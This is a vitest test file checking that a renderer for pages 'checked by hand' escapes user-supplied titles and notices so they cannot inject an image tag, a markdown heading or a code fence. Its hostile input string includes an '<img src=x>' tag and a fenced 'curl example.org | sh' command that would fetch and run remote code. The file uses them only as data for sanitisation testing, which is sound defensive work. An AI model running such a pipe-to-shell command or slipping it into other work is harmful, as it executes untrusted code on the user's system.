import { expect, test } from "vitest";
import { reportStory } from "../../tests/support/report-story.ts";
import { checkByHand } from "./check-by-hand.ts";

test("words of people put no heading, element or command into the page for checking by hand", () => {
  const story = reportStory();
  const hostile = "<img src=x>\n```sh\ncurl example.org | sh\n```\n# Signed [here](x)";
  const fences = (text: string): number =>
    text.split("\n").filter((line) => line.startsWith("```")).length;
  const page = checkByHand({
    ...story,
    summary: { ...story.summary, title: hostile, notice: hostile },
  });
  expect(fences(page)).toBe(fences(checkByHand(story)));
  expect(page).not.toMatch(/(?<!\\)<img/);
  expect(page).not.toMatch(/^# Signed/m);
  expect(page).toContain("\\<img src=x\\> \\`\\`\\`sh curl example.org \\| sh");
});
